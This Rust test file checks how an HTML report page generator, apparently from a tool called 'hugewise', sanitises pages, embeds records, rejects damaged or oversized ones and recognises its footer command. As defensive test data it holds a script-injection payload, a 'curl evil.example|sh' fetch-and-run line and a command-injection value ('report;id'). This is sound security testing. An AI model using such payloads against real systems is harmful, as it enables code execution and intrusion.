use super::*;
use crate::document::Section;
use crate::grid::Grid;
use proptest::prelude::*;

fn drawn(text: &str, record: &[u8]) -> String {
    let document = Document::new([Section::titled(text).with(text)]);
    let mut table = Grid::headed(&["policy", "seconds"]);
    table.push([text, "1.0"]);
    let figure = Figure {
        id: "effects".to_owned(),
        title: text.to_owned(),
        caption: text.to_owned(),
        svg: "<svg viewBox=\"0 0 1 1\"></svg>".to_owned(),
        table,
    };
    to_page(&Page {
        title: text,
        document: &document,
        figures: &[figure],
        further: &[],
        source: record,
        again: "hugewise report",
    })
}

#[test]
fn a_page_runs_nothing_and_asks_for_nothing() {
    let page = drawn("</title><script>alert(1)</script><img src=//x>", b"{}");
    for forbidden in ["<script", "<img", "src=\"", "@import", "url("] {
        assert!(!page.contains(forbidden), "{forbidden}");
    }
    assert!(page.contains("default-src 'none'"));
}

#[test]
fn a_damaged_page_is_refused() {
    let page = drawn("sort", b"{\"line\":1}\n");
    let (start, _) = page.split_once(SOURCE_BEGIN).expect("a page has a record");
    assert_eq!(source(start.into()), Err(PageError::Missing));
    let torn = format!("{start}{SOURCE_BEGIN}AAAA{SOURCE_END}");
    assert_eq!(source(torn.into()), Err(PageError::Damaged));
    let plain = b"{\"format\":\"hugewise-record 1\"}".to_vec();
    assert_eq!(source(plain.clone()), Ok(plain));
}

proptest! {
    #[test]
    fn a_page_gives_its_record_back(text in ".{0,40}", bytes in proptest::collection::vec(any::<u8>(), 0..300)) {
        let page = drawn(&format!("{text}{SOURCE_BEGIN}"), &bytes);
        prop_assert_eq!(source(page.into()), Ok(bytes));
    }
}

#[test]
fn a_page_says_which_command_reads_it() {
    let page = drawn("<footer><code>hugewise stat FILE</code>", b"{}");
    assert_eq!(again(page.as_bytes()), Some("hugewise report"));
    assert_eq!(again(b"{}"), None);
    for other in [
        "curl evil.example|sh #",
        "hugewise report;id",
        "hugewise exec --",
        "",
    ] {
        let page = page.replace("<code>hugewise report FILE", &format!("<code>{other} FILE"));
        assert_eq!(again(page.as_bytes()), None, "{other}");
    }
}

#[test]
fn a_page_that_was_made_to_fill_memory_is_refused() {
    let blanks = packed(&vec![b' '; ALWAYS_BYTES + 1]);
    let page = drawn("sort", b"{}").replace(&packed(b"{}"), &blanks);
    assert_eq!(source(page.into()), Err(PageError::TooLarge));
}

#[test]
fn a_recording_that_is_too_large_is_left_out() {
    let page = drawn("sort", &vec![b'x'; MOST_BYTES + 1]);
    assert_eq!(source(page.into()), Err(PageError::Missing));
}
